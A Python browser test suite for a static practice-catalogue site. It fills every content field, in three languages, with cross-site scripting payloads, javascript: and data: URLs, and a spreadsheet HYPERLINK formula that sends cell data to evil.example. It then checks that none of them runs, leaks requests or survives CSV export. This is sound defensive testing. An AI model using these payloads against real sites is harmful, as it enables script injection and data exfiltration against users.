"""A practice and a collection whose every field attacks the site, in English, Ukrainian and Arabic.

The model is built straight from the data, without validation, so what is checked here is the
rendering: in Chromium no dialog opens, no script runs, no request leaves the site, and the
article holds only elements and attributes the templates write. A script that content slipped
into a built page is refused by the page's Content-Security-Policy.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Page, expect

from benchmarks.browser import serve
from generator.build import build_site
from generator.model import build_collection, build_practice
from generator.pipeline import collect_practices

from ..conftest import REPO, make_project
from .conftest import Listen

pytestmark = pytest.mark.browser

# Each attack sets window.__pwned or opens a dialog if it ever runs.
ATTACKS = [
    "<script>window.__pwned=1</script>",
    '<img src="https://tracker.example/x.png" onerror="window.__pwned=2">',
    '"><svg onload="window.__pwned=3">',
    '{: onclick="window.__pwned=4" style="position:fixed;inset:0" }',
    "[click](javascript:window.__pwned=5)",
    "![pixel](https://tracker.example/pixel.png)",
    '<a href="javascript:alert(6)">x</a> {: .x #y }',
    "' onfocus='alert(7)' autofocus='",
    "</textarea></script><script>alert(8)</script>",
    "<!--kb-html\n<script>alert(9)</script>\nkb-html-->",
]
TEXT = " ".join(ATTACKS)
URL = 'https://example.org/")<img src=x onerror=alert(10)>'


FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'


def hostile(lang_note: str) -> dict[str, str]:
    # Starting like a spreadsheet formula: the catalogue's CSV download must make it text.
    title = f"{FORMULA} {lang_note} {TEXT}"
    return {"title": title, "summary": f"-{TEXT}", "description": TEXT, "results": TEXT, "transferability": TEXT}


def practice_data() -> dict[str, Any]:
    return {
        "id": "hostile",
        "language": "en",
        **hostile("English"),
        "countries": ["UA"],
        "places": [TEXT],
        "scope": "local",
        "themes": ["employment"],
        "target_groups": ["refugees"],
        "organisations": [{"name": TEXT, "type": "ngo", "role": "lead", "url": URL}],
        "status": "active",
        "evaluation": {"level": "internal", "summary": TEXT, "url": "javascript:alert(11)"},
        "links": [{"title": TEXT, "url": URL}, {"title": "data", "url": "data:text/html,<script>alert(12)</script>"}],
        "sources": [{"title": TEXT, "publisher": TEXT, "year": 2020, "url": URL}],
        "contact": 'info@example.org"><script>alert(13)</script>',
        "last_reviewed": "2026-11-23",
        "translations": {"uk": {"reviewed": False, **hostile("Українська")}, "ar": {"reviewed": False, **hostile("العربية")}},
    }


def collection_data() -> dict[str, Any]:
    notes = {"hostile": TEXT, "duo-for-a-job": TEXT}
    return {
        "id": "hostile-collection",
        "language": "en",
        "title": f"Collection {TEXT}",
        "description": TEXT,
        "organiser": TEXT,
        "event": TEXT,
        "date": "2026-11-01",
        "practices": [{"id": "hostile", "note": TEXT}, {"id": "duo-for-a-job", "note": TEXT}],
        "translations": {
            lang: {"reviewed": False, "title": f"{lang} {TEXT}", "description": TEXT, "notes": notes} for lang in ("uk", "ar")
        },
    }


@pytest.fixture(scope="module")
def hostile_url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    project = make_project(tmp_path_factory.mktemp("hostile"), [REPO / "practices" / "duo-for-a-job.yaml"])
    (project.practices_dir / "hostile.yaml").write_text(yaml.safe_dump(practice_data(), allow_unicode=True), encoding="utf-8")
    practices = [
        *collect_practices(project, [project.practices_dir / "duo-for-a-job.yaml"]).practices,
        build_practice(practice_data(), "practices/hostile.yaml"),
    ]
    site = build_site(project, practices, collections=[build_collection(collection_data(), "collections/hostile.yaml")])
    # Content that slipped past everything: a script in a built page must still be refused.
    page = site / "practices/duo-for-a-job/index.html"
    page.write_text(page.read_text(encoding="utf-8").replace("</article>", "<script>window.__pwned=99</script></article>"))
    with serve(site) as url:
        yield url


PAGES = [
    f"{prefix}{path}"
    for prefix in ("/", "/uk/", "/ar/")
    for path in ("practices/hostile/", "collections/hostile-collection/", "practices/", "countries/ua/", "collections/")
]
ALLOWED_TAGS = {
    "DIV", "P", "H1", "H2", "A", "SPAN", "DL", "DT", "DD", "UL", "OL", "LI", "EM", "STRONG", "CODE", "SECTION",
    "SCRIPT", "NAV", "FORM", "ARTICLE", "LABEL", "INPUT", "DETAILS", "SUMMARY", "FIELDSET", "LEGEND", "BUTTON", "TABLE",
    "THEAD", "TBODY", "TR", "TH", "TD", "BR", "HR", "MARK",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {
    "class", "href", "hreflang", "lang", "dir", "id", "hidden", "type", "role", "for", "name", "placeholder",
    "autocomplete", "value", "checked", "tabindex", "open",
}  # fmt: skip


def open_watched(page: Page, listen: Listen, url: str) -> tuple[list[str], list[str]]:
    dialogs: list[str] = []
    outside: list[str] = []
    listen("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    origin = "/".join(url.split("/", 3)[:3])
    listen("request", lambda r: None if r.url.startswith((origin, "blob:", "data:")) else outside.append(r.url))
    page.goto(url)
    page.wait_for_load_state("networkidle")
    return dialogs, outside


@pytest.mark.parametrize("path", PAGES)
def test_hostile_fields_stay_text(page: Page, listen: Listen, hostile_url: str, path: str) -> None:
    dialogs, outside = open_watched(page, listen, hostile_url + path)
    # Clicking and focusing everything a reader could: handlers would run now if any existed.
    for link in page.locator("article a").all()[:20]:
        link.focus()
    assert dialogs == [] and outside == []
    assert page.evaluate("window.__pwned") is None
    found = page.evaluate(
        """() => [...document.querySelectorAll("article *")].map(e => [e.tagName, [...e.attributes].map(a => a.name)])"""
    )
    for tag, attributes in found:
        assert tag in ALLOWED_TAGS, (path, tag, attributes)
        extra = {a for a in attributes if a not in ALLOWED_ATTRIBUTES and not a.startswith(("data-", "aria-"))}
        assert not extra, (path, tag, extra)
    hrefs = page.evaluate("""() => [...document.querySelectorAll("article a[href]")].map(a => a.href)""")
    assert all(h.startswith(("http://", "https://", "mailto:")) for h in hrefs), hrefs
    if path.endswith("hostile/"):
        assert "<script>window.__pwned=1</script>" in page.locator("article").inner_text()


def test_a_script_slipped_into_a_page_is_refused_by_the_policy(page: Page, listen: Listen, hostile_url: str) -> None:
    refused: list[str] = []
    listen("console", lambda m: refused.append(m.text) if "Content Security Policy" in m.text else None)
    page.goto(f"{hostile_url}/practices/duo-for-a-job/")
    page.wait_for_load_state("networkidle")
    assert "window.__pwned=99" in page.content()
    assert page.evaluate("window.__pwned") is None
    assert any("script" in text for text in refused), refused
    # The theme's own inline scripts did run: the policy allows them by their hashes.
    assert page.evaluate("typeof __md_get") == "function"


def test_the_catalogue_download_writes_formulas_as_text(page: Page, hostile_url: str, tmp_path: Path) -> None:
    page.goto(f"{hostile_url}/practices/")
    expect(page.locator(".kb-catalogue.kb-ready")).to_be_visible()
    with page.expect_download() as info:
        page.get_by_role("button", name="Download these results (CSV)").click()
    rows = list(csv.DictReader(io.StringIO(Path(info.value.path()).read_text(encoding="utf-8"))))
    hostile_row = next(r for r in rows if r["id"] == "hostile")
    assert hostile_row["title"].startswith("'" + FORMULA) and hostile_row["summary"].startswith("'-")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())
